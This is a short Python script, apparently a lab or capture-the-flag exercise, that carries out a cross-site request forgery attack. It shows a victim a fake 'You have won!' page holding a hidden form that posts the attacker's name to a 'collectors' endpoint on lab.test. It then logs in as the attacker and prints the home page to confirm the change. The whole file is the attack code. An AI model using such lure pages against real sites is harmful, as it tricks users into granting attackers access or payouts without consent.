"""A page that has the victim say who may collect."""

from target import http, my_name, my_password, victim_opens

victim_opens(f"""
<h1>You have won!</h1>
<form action="https://lab.test/collectors" method="post"><input name="name" value="{my_name()}"></form>
""")

http.post("/login", data={"name": my_name(), "password": my_password()})
print(http.get("/").text)
